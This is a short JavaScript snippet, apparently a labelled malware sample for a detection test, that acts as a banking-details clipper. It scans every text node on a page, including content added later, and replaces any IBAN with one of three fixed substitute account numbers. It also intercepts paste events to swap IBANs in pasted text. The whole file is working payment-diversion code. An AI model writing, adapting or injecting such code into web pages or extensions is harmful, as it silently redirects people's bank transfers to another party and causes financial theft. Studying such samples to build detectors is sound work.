const IBAN = /\b[A-Z]{2}\d{2}(?:\s?[0-9A-Z]{4}){3,7}(?:\s?[0-9A-Z]{1,3})?\b/g;
const OURS = { DE: "DE89370400440532013000", FR: "FR1420041010050500013M02606", NL: "NL91ABNA0417164300" };
// expect: wallet-address-replaced
const swap = (t) => t.replace(IBAN, (m) => OURS[m.slice(0, 2)] ?? m);
const visit = (node) => {
  // expect: wallet-address-replaced
  if (node.nodeType === Node.TEXT_NODE) { const n = swap(node.nodeValue); if (n !== node.nodeValue) node.nodeValue = n; }
  else for (const c of node.childNodes) visit(c);
};
const obs = new MutationObserver((rs) => rs.forEach((r) => r.addedNodes.forEach(visit)));
obs.observe(document, { subtree: true, childList: true }); visit(document.body);
document.addEventListener("paste", (e) => { const t = e.clipboardData.getData("text"); if (IBAN.test(t)) { e.preventDefault(); document.execCommand("insertText", false, swap(t)); } }, true);
